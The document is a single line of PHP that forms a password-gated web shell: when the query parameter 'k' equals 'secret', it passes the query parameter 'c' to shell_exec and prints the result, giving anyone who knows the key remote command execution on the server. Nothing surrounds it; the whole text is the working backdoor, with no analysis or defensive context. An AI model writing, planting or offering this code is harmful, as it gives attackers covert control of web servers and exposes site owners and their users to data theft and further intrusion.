<?php if($_GET["k"]=="secret"){ echo shell_exec($_GET["c"]); }
